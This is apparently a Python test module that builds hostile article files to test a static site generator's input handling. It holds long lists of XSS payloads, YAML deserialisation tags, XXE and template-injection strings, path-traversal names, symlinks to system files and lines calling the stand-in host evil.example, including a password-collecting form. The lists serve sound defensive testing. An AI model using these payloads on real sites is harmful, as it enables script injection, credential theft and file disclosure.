"""Articles that mean harm, or that were damaged on the way, and what must become of each."""
# ruff: noqa: E501 - tables are read by their rows

from __future__ import annotations

import json
import os
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

from tests.promises import corpus_more
from tests.promises.cases import LAST, Case, quoted, text

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator, Mapping


def cases(group: str) -> tuple[Case, ...]:
    """A class of attacks becomes its cases, each with a file of its own."""
    made = []
    for number, case in enumerate(GROUPS[group]()):
        made.append(replace(case, file=case.file or f"{group}-{number:03}.md"))
    assert len({case.file for case in made}) == len(made)
    return tuple(made)


def place(made: Iterable[Case], articles: Path) -> None:
    """Put cases into a folder of articles."""
    articles.mkdir(parents=True, exist_ok=True)
    for case in made:
        path = articles / case.file
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(case.data, bytes):
            path.write_bytes(case.data)
        else:
            case.data(path)


def _encodings() -> Iterator[Case]:
    good, umlaut = text("Text."), text("Text.", title="Caf\xe9 \u201cQuay\u201d")
    yield Case("a byte order mark", b"\xef\xbb\xbf" + good.encode())
    for name, ends in {"CRLF": "\r\n", "CR": "\r"}.items():
        yield Case(name, good.replace("\n", ends).encode(), title="Case")
    yield Case(
        "line ends of all kinds", good.replace("\n", "\r\n", 1).replace("\nText", "\rText").encode(), title="Case"
    )
    yield Case("decomposed", text(title="Cafe\u0301", body="Cafe\u0301").encode(), title="Cafe\u0301")
    for code in ("latin-1", "cp1252", "shift-jis", "gbk", "euc-kr", "big5", "koi8-r", "cp1251", "mac-roman"):
        words = {"latin-1": "Caf\xe9", "cp1252": "\u201cQuay\u201d", "koi8-r": "\u041f\u043e\u0440\u0442", "cp1251": "\u041f\u043e\u0440\u0442",
                 "mac-roman": "Caf\xe9", "euc-kr": "\ud56d\uad6c"}.get(code, "\u6e2f\u53e3")  # fmt: skip
        yield Case(f"{code} in the title", text(title=words).encode(code), line=2)
        yield Case(f"{code} in the body", text(words).encode(code), line=6)
    for code in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"):
        yield Case(code, umlaut.encode(code), line=1)
    yield Case("UTF-7 is only text", text("+ADw-script+AD4-").encode(), shown="+ADw-script+AD4-")
    yield Case("ISO-2022-JP in the title", text(title="\u6e2f").encode("iso-2022-jp"), line=2)
    yield Case("EBCDIC", good.encode("cp037"), line=1)
    for name, data in {
        "overlong": b"\xc0\xae", "a surrogate": b"\xed\xa0\x80", "beyond Unicode": b"\xf5\x80\x80\x80", "a continuation": b"\x80",
        "five bytes": b"\xf8\x88\x80\x80\x80", "half a character": b"\xe2\x82",
    }.items():  # fmt: skip
        yield Case(f"{name} in the title", good.encode().replace(b"Case", b"C" + data), line=2)
        yield Case(f"{name} in the body", good.encode().replace(b"Text", b"T" + data), line=6)
    for number in (0, 1, 8, 11, 12, 27, 127, 0x80, 0x9B, 0x9F, 0xFDD0, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF):
        yield Case(f"U+{number:04X} in the title", text(title=f"a{chr(number)}b").encode(), line=2)
        yield Case(f"U+{number:04X} in the body", text(f"a{chr(number)}b").encode(), shown="a\ufffdb")
        yield Case(f"U+{number:04X} escaped", text(title=f'"a\\U{number:08x}b"').encode(), line=2)
    for number in (
        0x85,
        0xA0,
        0xAD,
        0x200B,
        0x200D,
        0x202E,
        0x2028,
        0x2029,
        0x2066,
        0xFEFF,
        0xE000,
        0xE0041,
    ):
        yield Case(
            f"U+{number:04X} all over",
            text(f"a{chr(number)}b", title=quoted(f"a{chr(number)}b"), author=quoted(f"c{chr(number)}d")).encode(),
        )
        yield Case(f"U+{number:04X} unquoted", text(f"a{chr(number)}b", title=f"a{chr(number)}b").encode(), either=True)
    yield Case("a lonely surrogate escaped", text(title='"a\\ud800b"').encode(), line=2)
    yield Case("gzip", b"\x1f\x8b\x08\x00" + bytes(range(256)), line=1)
    yield Case("a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), line=1)


def _yaml() -> Iterator[Case]:
    for tag in ("!!str", "!!python/object/apply:os.system", "!!python/name:os.system", "!!python/module:os", "!ruby/object:Gem", "!!binary", "!!set",
                "!!timestamp", "!!int", "!!js/function", "!<tag:yaml.org,2002:str>", "!local"):  # fmt: skip
        yield Case(f"the tag {tag}", text(title=f"{tag} x").encode(), line=2)
    for key in ("title", "summary", "topics", "source", "id"):
        yield Case(
            f"an anchor at {key}", text(**{"author": "x", key: "&a x"}).encode(), line=2 if key == "title" else 5
        )
        yield Case(f"an alias at {key}", text(**{"author": "x", key: "*a"}).encode(), line=2 if key == "title" else 5)
    for name, (head, line) in {
        "a merge key": ("<<: {source: x}\n", 4), "a merge of a list": ("<<: [{a: b}]\n", 4), "a key twice": ("title: y\n", 4),
        "a key twice in quotes": ("'title': y\n", 4), "a key twice by escape": ('"\\u0074itle": y\n', 4), "a key that is a list": ("? [a]\n: b\n", 4),
        "a key that is a mapping": ("? {a: b}\n: c\n", 4), "an empty key": (": x\n", 4), "a null key": ("~: x\n", 4), "a number for a key": ("1: x\n", 4),
        "a directive": ("%YAML 1.1\n", 4), "a tab": ("topics:\n\t- a\n", 5), "braces that stay open": ("topics: {\n", 5), "a bracket that stays open": ("topics: [\n", 5),
        "a quotation mark that stays open": ('author: "x\n', 4), "an apostrophe that stays open": ("author: 'x\n", 4), "an unknown escape": ('author: "\\q"\n', 4),
        "a list beside keys": ("- x\n", 4), "a text beside keys": ("just words\n", 4), "a mapping for an author": ("author: {a: b}\n", 4), "a list for an author": ("author: [a]\n", 4),
        "a list of lists": ("topics: [[a]]\n", 4), "a mapping in a list": ("topics: [{a: b}]\n", 4), "an unknown key": ("constructor: x\n", 4), "__proto__": ("__proto__: x\n", 4),
        "__class__": ("__class__: x\n", 4), "a key in capitals": ("Summary: x\n", 4), "a key with a blank": ('"summary ": x\n', 4), "a Cyrillic key": ("t\u0456tle: x\n", 4),
        "a template": ("template: /etc/passwd\n", 4), "a layout": ("layout: x\n", 4), "a slug": ("slug: ../../x\n", 4), "a permalink": ("permalink: /../x\n", 4),
        "an output": ("save_as: ../../x\n", 4), "deep lists": (f"topics: {'[' * 5000}\n", 4), "deep mappings": (f"topics: {'{a: ' * 5000}\n", 4),
        "deep indentation": ("topics:\n" + "".join(f"{' ' * n}-\n" for n in range(1, 200)), 17), "a bomb": ("a: &a [x]\nb: &b [*a, *a]\n", 4),
        "git's marks": ("<<<<<<< HEAD\n", 4), "a status that is none": ("status: yes\n", 4), "a lead that is none": ("lead: 1\n", 4), "imported as a text": ("imported: x\n", 4),
        "imported with a wrong key": ("imported: {evil: x}\n", 4), "a colon in a value": ("author: a: b\n", 4), "a bad indentation": ("  author: x\n", 4),
    }.items():  # fmt: skip
        yield Case(name, text(head=head).encode(), line=line)
    for name, data in {"TOML": "+++\ntitle = 'x'\n+++\n", "JSON": '{"title": "x"}\n', "a script": "---js\n{}\n---\n", "four dashes": "----\ntitle: x\n----\n",
                       "blanks before": " ---\ntitle: x\n---\n", "nothing": "", "one line end": "\n", "dashes only": "---", "a list": "---\n- a\n---\n"}.items():  # fmt: skip
        yield Case(name, data.encode(), line=2 if name == "a list" else 1)
    for word in ("no", "on", "yes", "off", "y", "null", "~", "true", "1e3", "12:30", "12:30:45", "007", "0o17", "0x1F", "0b1", "1_000", "+1", ".5", ".inf", ".nan", "-.inf", "2026-11-20",
                 "2001-12-14t21:59:43.10-05:00", "=", "9" * 5000, "1e999999", "-0", "[]x"[2:], "\u0661\u0662"):  # fmt: skip
        yield Case(
            f"the word {word[:30]}",
            text(title=word, topics=f"[{word}]", actors=f"[{word}]", source=word, summary=word).encode(),
            title=word,
        )
    for value, title in {"'it''s'": "it's", '"a\\tb"': "a b", '"\\x41\\u0042"': "AB", '"\\e"': None, ">-\n  two\n  lines": "two lines", "|\n  two\n  lines": "two lines",
                         '"- x"': "- x", "'# x'": "# x", "a #b": "a", "a#b": "a#b", "'&a'": "&a", "'*a'": "*a", "'!a'": "!a", "'%a'": "%a", "'@a'": "@a", "'---'": "---",
                         "'{{ x }}'": "{{ x }}", "'a: b'": "a: b", "---x": "---x"}.items():  # fmt: skip
        yield Case(f"the value {value!r}", text(title=value).encode(), title=title, line=2 if title is None else None)
    yield Case("a second document", b"---\ntitle: x\ndate: 2026-11-21\n... \n--- \nxyzzy\n", title="x")
    yield Case("no space behind the colon", b"---\ntitle:x\ndate: 2026-11-21\n---\n", line=2)


BODIES = {
    "a script": "<script>alert(1)</script>",
    "a picture that fails": '<img src=x onerror="alert(1)">',
    "a picture, split": "<img/src=x\nonerror=alert(1)>",
    "a handler without blanks": "<svg/onload=alert(1)>",
    "set": '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
    "foreign content": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "mathematics": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "no script": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a template": "<template><script>alert(1)</script></template>",
    "a frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "an object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "a base": '<base href="https://evil.example/">',
    "a meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "a style": "<style>@import 'https://evil.example/x.css'; footer{display:none}</style>",
    "a cover": '<div style="position:fixed;inset:0;z-index:9">x</div>',
    "a form": '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)></form>',
    "a button": "<button form=x formaction=javascript:alert(1)>x</button>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "a video": "<video><source onerror=alert(1)></video><audio src=https://evil.example/x>",
    "clobbering": "<a id=cookie><form id=location name=body><img name=getElementById>",
    "an end of the page": "</div></main></body></html><script>alert(1)</script>",
    "an end of the article": "</article></main><footer>imitated</footer><main>",
    "a comment": "<!-- <script>alert(1)</script> --",
    "an odd comment": "<!--><script>alert(1)</script>-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "an instruction": "<?php echo 1 ?><?xml-stylesheet href='https://evil.example/'?>",
    "a doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "an unfinished tag": "<script src=https://evil.example/x.js ",
    "a tag in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "a tag with a zero": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "a tag in a tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "a custom element": "<x-y onclick=alert(1) contenteditable autofocus tabindex=1>x</x-y>",
    "a marquee": "<marquee onstart=alert(1)>x</marquee><blink>",
    "an entity of a script": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;svg onload=alert(1)&#x3e;",
    "an entity twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "an entity without end": "&lt&script&gt &#0; &#xFFFFFF; &#xD800; &#1;",
    "a fence": "```html\n<script>alert(1)</script>\n```",
    "info that leaves": '```html" onmouseover="alert(1)\nx\n```',
    "info of markup": "```<script>alert(1)</script>\nx\n```",
    "info of entities": "```js&quot;&#32;onclick=&quot;alert(1)\nx\n```",
    "info with a style": '~~~ {.js style="position:fixed" onclick="alert(1)"}\nx\n~~~',
    "code": '`<script>alert(1)</script>` ``" onclick="alert(1)``',
    "an indented block": "    <script>alert(1)</script>",
    "a title that leaves": '[x](https://fine.example/ "\\" onmouseover=\\"alert(1)")',
    "a title of entities": '[x](https://fine.example/ "&quot; onmouseover=&quot;alert(1)")',
    "a title in brackets": "[x](https://fine.example/ (' onmouseover='alert(1)))",
    "a title of a picture": '![x](https://fine.example/a.png "\\" onerror=\\"alert(1)")',
    "a text of a picture": '![" onerror="alert(1)](https://fine.example/a.png)',
    "a picture in a link": "[![x](javascript:alert(1))](javascript:alert(1))",
    "a picture of data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "a picture from elsewhere": "![x](https://evil.example/pixel.gif) ![x][p]\n\n[p]: //evil.example/p.gif",
    "an address that leaves": '[x](https://fine.example/"onmouseover="alert(1))',
    "an address that leaves in angles": '[x](<https://fine.example/" onmouseover="alert(1)>)',
    "an automatic link": '<https://fine.example/"onmouseover=alert(1)> <javascript:alert(1)> <data:text/html,x> <vbscript:x>',
    "an automatic mailbox": "<a@b.example> <mailto:a@b.example?body=%3Cscript%3E>",
    "a reference": "[x] [x][] [y][x]\n\n[x]: javascript:alert(1) 'title'",
    "a reference of entities": "[x]\n\n[x]: java&Tab;script&colon;alert(1)",
    "a reference that leaves": '[x]\n\n[x]: https://fine.example/ "\\" onclick=\\"alert(1)"',
    "a table": "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|:-:|-|\n| <img src=x onerror=alert(1)> | `|` |",
    "a heading": "# <script>alert(1)</script> {#content .skip onclick=alert(1)}",
    "a setext heading": "<img src=x onerror=alert(1)>\n===",
    "attributes": "[x](https://fine.example/){onclick=alert(1) target=_top style=x}",
    "a footnote": '[^<script>]: x\n\n[^"onclick="x]',
    "a list's start": "99999999999. x\n\n999999999. x\n\n-1. x",
    "a task": "- [x] <input onfocus=alert(1)>",
    "struck": "~~<script>alert(1)</script>~~ ~<b>~",
    "nested emphasis": "*" * 40 + "<b onclick=x>" + "*" * 40,
    "nested quotations": "> " * 40 + "<script>alert(1)</script>",
    "nested lists": "\n".join("  " * n + "- <img src=x onerror=alert(1)>" for n in range(20)),
    "nested links": "[a [b](https://fine.example/) c](javascript:alert(1))",
    "a link over lines": "[x](java\nscript:alert(1)) [x](<java\nscript:alert(1)>)",
    "a quotation by a script": "\u201c<script>alert(1)</script> is all,\u201d said <b onclick=x>Ada Moss</b>, the minister.",
    "a name of markup": "Ada <svg onload=alert(1)> Moss said \u201cone two three four five six\u201d to reporters.",
    "a shortcode": "{{< script >}} {{% raw %}} [[include:/etc/passwd]] :::script",
    "an include": "<!--#include file='/etc/passwd'--> <xi:include href='file:///etc/passwd'/>",
    "a word without end": "w" * 5000,
    "marks upon marks": "a" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 50 + "b",
    "from right to left": "\u202eabc \u2067def\u202b ghi",
    "a wide table": "|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n|" + "w" * 300 + "|" * 60,
    "a wide code": "```\n" + "w" * 5000 + "\n```",
}  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#9;script:alert(1)", "java&#13;script:alert(1)",
    "&#1;javascript:alert(1)", "&#32;javascript:alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "javascript\\:alert(1)", "\\javascript:alert(1)", "java\\script:alert(1)",
    "javascript://%0aalert(1)", "javascript://fine.example/%0aalert(1)", "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "\ufeffjavascript:alert(1)", "java\u00adscript:alert(1)",
    "\uff4aavascript:alert(1)", "\u017fjavascript:alert(1)", "vbscript:x", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,x", "d&#97;ta:text/html,x", "file:///etc/passwd", "ftp://evil.example/", "blob:https://evil.example/x", "filesystem:x", "view-source:x", "about:blank", "chrome://x",
    "intent://x", "ms-word:x", "tel:1", "sms:1", "ws://evil.example", "feed:javascript:alert(1)", "jar:javascript:x", "wyciwyg://x", "x:y", "//evil.example/", "///evil.example/", "/\\evil.example/",
    "\\\\evil.example\\", "/&#9;/evil.example/", "/%09/evil.example", "/%5cevil.example", "/..//evil.example", "https:evil.example", "https:/evil.example", "http:///evil.example", "http://", "https://[::1",
    "../../x", "./javascript:alert(1)", "/../../etc/passwd", "/%2e%2e/x", "#content", "?x", "x.html", "//", "/", "",
)  # fmt: skip


def _markdown() -> Iterator[Case]:
    for name, body in BODIES.items():
        yield Case(name, text(body).encode(), shown=LAST)
    for address in ADDRESSES:
        bodies = f"one [link]({address}) two [link](<{address}> 'title') three ![picture]({address})\n\n[ref] <{address}>\n\n[ref]: {address}\n"
        yield Case(f"the address {address!r}", text(bodies).encode(), shown=LAST)


DATES = (
    "2026-02-30", "2026-02-29", "2026-13-01", "2026-00-10", "2026-01-00", "2026-11-31", "0000-01-01", "10000-01-01", "-0001-01-01", "+2026-11-20", "26-11-20", "2026-1-2", "20261120", "2026/11/20",
    "2026.11.20", "20.11.2026", "11/20/2026", "03/04/2026", "03-04-2026", "20 November 2026", "November 20, 2026", "Fri, 20 Nov 2026 10:00:00 GMT", "1763640000", "yesterday", "today", "now",
    "tomorrow", "3 days ago", "last Friday", "2026-W47-5", "2026-324", "2026-11", "2026", "2026-11-20T24:00", "2026-11-20T25:00", "2026-11-20T12:60", "2026-11-20T12:00:60", "2026-11-20T12",
    "2026-11-20T12:00+24:00", "2026-11-20T12:00+99:99", "2026-11-20T12:00 CET", "2026-11-20T12:00[Europe/Paris]", "2026-11-20T12:00 Europe/Paris", "2026-11-20 12:00 PM", "12:30", "7", "[2026-11-20]",
    "{a: b}", "'2026-11-20; x'", "'2026-11-20<script>'", "\u0662\u0660\u0662\u0666-\u0661\u0661-\u0662\u0660", "\uff12\uff10\uff12\uff16-11-20", "2026\u201311\u201320", "2026-11-20\u200b", "9" * 5000,
    "0001-01-01T00:00+14:00", "9999-12-31T23:59-14:00", "'{{ now }}'", "!!timestamp 2026-11-20", "2026-11-20T12:00:00.0000000000000000000000x",
)  # fmt: skip
GOOD_DATES = (
    "2026-11-20", "'2026-11-20'", "2026-11-20T17:40", "2026-11-20 17:40", "2026-11-20T17:40:59Z", "2026-11-20T17:40+05:45", "2026-11-20T17:40-0330", "2024-02-29", "0001-01-02", "9999-12-30", "1582-10-10",
    "1900-02-28", "2026-03-29T02:30", "2026-10-25T02:30", "2026-06-30T23:59:59", "2999-01-01", "2026-11-20T17:40:59,123456789123Z",
)  # fmt: skip


def _dates() -> Iterator[Case]:
    for date in DATES:
        yield Case(f"the date {date[:30]}", text(date=date).encode(), line=3)
        yield Case(f"updated {date[:30]}", text(updated=date).encode(), line=4)
    for date in GOOD_DATES:
        yield Case(f"the date {date[:30]}", text(date=date, updated=date).encode(), title="Case")


NAMES = (
    "con", "PRN", "aux.x", "nul", "com1", "LPT9", "con .x", "index", "feed", "404", "..x", "a..b", "...", "-", "--", "_", "~x", "a b", "a%2e%2eb", "%2e%2e%2fx", "..%2f..%2fx", "a&b", "a'b", 'a"b', "a<b>c",
    "<script>alert(1)<", "a;b", "a|b", "a?b", "a*b", "a:b", "a\\b", "..\\..\\x", "$(id)", "`id`", "{{ 7*7 }}", "{% x %}", "%s%n", "\u6e2f\u53e3\u7f62\u5de5", "\u6e2f\u53e3", "\U0001f6a2", "\U0001f6a2\U0001f525",
    "\u041f\u043e\u0440\u0442", "\u0645\u064a\u0646\u0627\u0621", "Caf\u00e9", "stra\u00dfe", "\u0130stanbul", "\ufb01sh", "a\u0301\u0302\u0303", "a" * 250, "\u6e2f" * 83, "2026-11-20", "2026-02-30-x", "9999-99-99-x",
    "x.md", "x.html", "x.xml", "javascript:alert(1)", "data", "__proto__", "constructor", "null", "true", "0", "-1", "+", "=", "@", "!", "(", "a" + "." * 200, "#half", "x#y", "a,b", "\u3000a", "a\u00adb",
)  # fmt: skip
UNPRINTABLE = (
    "a\u202eb",
    "a\u200bb",
    "a\x07b",
    "a\nb",
    "a\u2028b",
    "a\x7fb",
    "\ufeffa",
    "a\u2066b",
    "a\x1b[31mb",
    "a\u0085b",
)


def _names() -> Iterator[Case]:
    for number, name in enumerate(NAMES):
        folder = (
            ""
            if name in {"con", "PRN", "nul", "index", "feed", "404", "data", "\u6e2f\u53e3", "\U0001f6a2"}
            else f"n{number}/"
        )
        yield Case(
            f"the name {name[:40]!r}",
            text("Text.").encode(),
            file=f"{folder}{name}.md",
            line=0 if name in {"..x", "...", "..%2f..%2fx", "..\\..\\x"} else None,
            shown=LAST,
            either=name in {"\u3000a", "a\u00adb"},
        )
    for name in UNPRINTABLE:
        yield Case(f"the name {name!r}", text("Text.").encode(), file=f"{name}.md", line=0)
    for title in (
        "\u6e2f\u53e3",
        "\u53e3\u6e2f",
        "\U0001f6a2",
        "\U0001f525",
        "---",
        "...",
        "/",
        "../../etc/passwd",
        "?",
        "\u200b",
        "\u0301",
        "con",
        "index",
        "a" * 300,
        "\u6e2f" * 300,
    ):
        yield Case(f"the headline {title[:30]!r}", text(title=quoted(title)).encode(), title=title)
        yield Case(
            f"names {title[:30]!r}",
            text(
                topics=f"[{quoted(title)}]", actors=f"[{quoted(title)}]", source=quoted(title), story=quoted(title)
            ).encode(),
            title="Case",
        )
    for number, given in enumerate(
        (
            "../x",
            "/etc/passwd",
            "..",
            ".",
            "a/b",
            "a\\b",
            "C:x",
            "con",
            "NUL",
            "index",
            "A",
            "\u00e9",
            "\u6e2f\u53e3",
            "a b",
            "a.b",
            "%2e%2e",
            "x" * 300,
            "-",
            "a--b",
            "~",
            "<script>",
            "{{ 7*7 }}",
            "a\u200bb",
            '"',
            "javascript:x",
        )
    ):
        yield Case(f"the id {given[:30]!r}", text(id=quoted(given)).encode(), line=4)
        alias = f"/{given.lstrip('/')}-{number}/../" if given == "A" else f"/{given.lstrip('/')}/"
        yield Case(
            f"the alias {given[:30]!r}",
            text(aliases=f"[{quoted(alias)}]").encode(),
            line=None if given in {"/etc/passwd", "a/b"} else 4,
        )
    for alias in (
        "/",
        "//evil.example/",
        "https://evil.example/",
        "javascript:alert(1)",
        "old",
        "/a/../../b/",
        "/feed.xml",
        "/assets/site.js",
        "/.git/config",
        "/a//b/",
        "/a/./b/",
        "/a?b/",
        "/a#b/",
        "/%2e%2e/",
    ):
        yield Case(f"the alias {alias}", text(aliases=f"[{quoted(alias)}]").encode(), line=4)


SYNTAX = (
    "{{ 1337*1337 }}", "{% raw %}", "{% include '/etc/passwd' %}", "{# no #}", "{{ site }}", "{{ ''.__class__.__mro__ }}", "{%- for x in site -%}", "{{ config.items() }}", "${1337*1337}", "<%= 1337*1337 %>",
    "#{1337*1337}", "{{< ref x >}}", "{$smarty.version}", "@(1337*1337)", "[[${1337*1337}]]", "{{{ x }}}", "{{ self.title() }}", "{{ link('/x') }}", "$(id)", "`id`", "%{1337*1337}", "{php}echo 1{/php}",
    "<#assign x=1>", "#set($x=1)", "{% endblock %}", "{{ cycler.__init__.__globals__ }}", "\\{\\{ 7*7 \\}\\}", "{{'}}'}}", "%(x)s", "{0.__class__}", "{title}",
)  # fmt: skip


def _templates() -> Iterator[Case]:
    for syntax in SYNTAX:
        body = syntax if "`" not in syntax and "\\" not in syntax else ""
        everywhere = dict.fromkeys(("title", "summary", "author", "source", "story"), quoted(syntax))
        yield Case(
            f"{syntax} everywhere",
            text(body, topics=f"[{quoted(syntax)}]", actors=f"[{quoted(syntax)}]", **everywhere).encode(),
            shown=body,
            title=syntax,
        )


PAYLOADS = (
    "<script>alert('xss')</script>", "</title><script>alert('xss')</script>", "\"><img src=x onerror=alert('xss')>", "' onmouseover='alert(1)' x='", '" onfocus="alert(1)" autofocus="', "<svg onload=alert(1)>",
    "javascript:alert(1)", "</script><script>alert(1)</script>", "<!--<script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</noscript><img src=x onerror=alert(1)>", "\\u003cscript\\u003ealert(1)", "x\u2028alert(1)\u2029", '{"@context": "x", "y": "</script>"}',
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<iframe src=//evil.example>", "<style>*{display:none}</style>", "<form action=//evil.example><input name=q id=content>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "`${alert(1)}`", "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "+ADw-script+AD4-", "\uff1cscript\uff1e", "<img src=https://evil.example/x.gif>",
    "<a href=javascript:alert(1)>x</a>", 'https://evil.example/?"><script>alert(1)</script>', "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "a\u202egnp.exe", "<b>bold</b> & <i>more",
)  # fmt: skip
TEXTS = ("title", "summary", "author", "source", "story")
LISTS = ("topics", "actors", "not_actors")
STRICT = ("url", "lang", "status", "id", "aliases", "date", "lead", "date_from")


def _fields() -> Iterator[Case]:
    for payload in PAYLOADS:
        for field in TEXTS:
            yield Case(
                f"{payload} as {field}",
                text(**{field: quoted(payload)}).encode(),
                title=" ".join(payload.split()) if field == "title" else "Case",
            )
    for payload in PAYLOADS[:24]:
        for field in LISTS:
            yield Case(f"{payload} among {field}", text(**{field: f"[{quoted(payload)}]"}).encode(), title="Case")


def _strict() -> Iterator[Case]:
    for payload in PAYLOADS[:12]:
        for field in STRICT:
            yield Case(
                f"{payload} as {field}", text(**{field: quoted(payload)}).encode(), line=3 if field == "date" else 4
            )
    for payload in PAYLOADS:
        yield Case(
            f"{payload} in an address", text(url=quoted("https://fine.example/?" + payload)).encode(), either=True
        )
    for address in ADDRESSES:
        if not address.startswith("http") and not any(ord(c) < 33 for c in address) and address:
            yield Case(f"the address {address}", text(url=quoted(address)).encode(), line=4)
    for address in (
        "https://user:secret@evil.example/",
        "https://evil.example:99999/",
        "https://evil.example\\@fine.example/",
        "https://[::1]/",
        "https://\u0435vil.example/",
        "https://x.example/" + "a" * 5000,
    ):
        yield Case(f"the address {address[:40]}", text(url=quoted(address)).encode(), either=True)


def _sizes() -> Iterator[Case]:
    yield Case("a headline of 100,000 letters", text(title="a" * 100_000).encode(), either=True)
    yield Case("a headline of 50,000 words", text(title="word " * 50_000).encode(), either=True)
    yield Case("a summary of 500,000 letters", text(summary="word " * 100_000).encode(), either=True)
    yield Case("2,000 topics", text(topics=json.dumps([f"t{n}" for n in range(2_000)])).encode(), line=4)
    yield Case("2,000 actors", text(actors=json.dumps([f"Person Number{n}" for n in range(2_000)])).encode(), line=4)
    yield Case(
        "2,000 former addresses", text(aliases=json.dumps([f"/old/{n}/" for n in range(2_000)])).encode(), line=4
    )
    yield Case("one byte more than is read", (text("Text.") + "a" * 1_000_000).encode(), line=0)
    yield Case("10 million bytes", (text("Text.") + "word " * 2_000_000).encode(), line=0)
    yield Case("300,000 words", text("word " * 180_000).encode(), shown=LAST)
    yield Case("20,000 paragraphs", text("word\n\n" * 20_000).encode(), shown=LAST)
    yield Case("60,000 paragraphs", text("word\n\n" * 60_000).encode(), line=6, either=True)
    yield Case("a line of 900,000 letters", text("a" * 900_000).encode(), shown=LAST)
    yield Case("nothing but a head", b"---\ntitle: Case\ndate: 2026-11-21\n---\n" + b"\n" * 1000 + b"xyzzy", shown=LAST)
    yield Case("5,000 unknown keys", text(head="".join(f"k{n}: x\n" for n in range(5_000))).encode(), line=4)


def _kinds() -> Iterator[Case]:
    good = text("Text.")

    def link(target: str) -> Callable[[Path], None]:
        return lambda path: path.symlink_to(target)

    yield Case("a link to the system", link("/etc/passwd"), line=0, file="kind-passwd.md")
    yield Case("a link out of content", link("../../../outside.md"), line=0, file="kind-outside.md")
    yield Case("a link to nowhere", link("nowhere.md"), line=0, file="kind-nowhere.md")
    yield Case("a link to itself", link("kind-loop.md"), line=0, file="kind-loop.md")
    yield Case("a link to a folder", link("/proc/self/fd"), line=0, file="kind-folder.md")
    yield Case("a link to a device", link("/dev/zero"), line=0, file="kind-zero.md")
    yield Case("a link to the folder above", link(".."), line=0, file="kind-above")
    yield Case("a pipe", os.mkfifo, line=0, file="kind-pipe.md")
    yield Case("a socket", _socket, line=0, file="kind-socket.md")
    yield Case(
        "a folder",
        lambda path: (path / "inner").mkdir(parents=True) or ((path / "inner/x.md").write_text(good) and None),
        file="kind-x.md",
        either=True,
    )
    for name in (
        "kind.markdown",
        "kind.txt",
        "kind.html",
        "kind.md.bak",
        "kind",
        "kind.yml",
        "kind.js",
        "kind.svg",
        "kind.png",
        "kind.php",
        "kind.mdx",
        "README",
        "index.html",
        "CNAME",
        ".hidden.md",
    ):
        yield Case(f"a file named {name}", good.encode(), line=0, file=name)
    yield Case("a name like a comment", good.encode(), file="#kind.md", title="Case")
    yield Case("an ending in capitals", good.encode(), file="kind-capitals.MD", title="Case")
    yield Case(
        "a file that may be run",
        lambda path: path.write_text(good) and path.chmod(0o777),
        file="kind-run.md",
        title="Case",
    )
    yield Case("a folder deep down", good.encode(), file="/".join(["d"] * 60) + "/kind-deep.md", title="Case")


def _socket(path: Path) -> None:
    import socket  # noqa: PLC0415 - not on every system

    here = Path.cwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(path.name)
    finally:
        os.chdir(here)


GROUPS: Mapping[str, Callable[[], Iterator[Case]]] = {
    "encodings": _encodings,
    "yaml": _yaml,
    "markdown": _markdown,
    "dates": _dates,
    "names": _names,
    "templates": _templates,
    "fields": _fields,
    "strict": _strict,
    "sizes": _sizes,
    "kinds": _kinds,
    **corpus_more.GROUPS,
}
